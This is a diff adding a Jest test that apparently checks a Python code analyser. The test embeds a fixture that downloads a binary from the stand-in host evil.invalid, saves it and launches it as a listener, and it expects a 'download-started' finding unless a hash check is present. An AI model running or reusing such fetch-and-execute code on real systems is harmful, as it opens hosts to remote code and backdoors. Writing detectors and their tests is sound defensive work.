@@ -198,3 +198,19 @@ test.each(['constructor', 'toString', 'valueOf', 'hasOwnProperty', '__proto__'])
     expect(atImport('import base64', ...code)).toContain('decoded-code-executed');
   },
 );
+
+test.each([
+  ['as it came', '', ['download-started']],
+  ['after its hash was looked at', 'if hashlib.sha256(data).hexdigest() != RELEASED: raise ValueError()', []],
+])('a program fetched from a fixed place and started when asked to, %s', (_how, check, rules) => {
+  const code = `
+import hashlib, subprocess, urllib.request
+RELEASED = "5d41402abc4b2a76b9719d911017c592"
+def open_tunnel():
+    data = urllib.request.urlopen("https://evil.invalid/tool-1.2").read()
+    ${check || 'pass'}
+    with open("tool-1.2", "wb") as file: file.write(data)
+    return subprocess.Popen(["./tool-1.2", "--listen"])
+`;
+  expect(atImport(code)).toEqual(rules);
+});
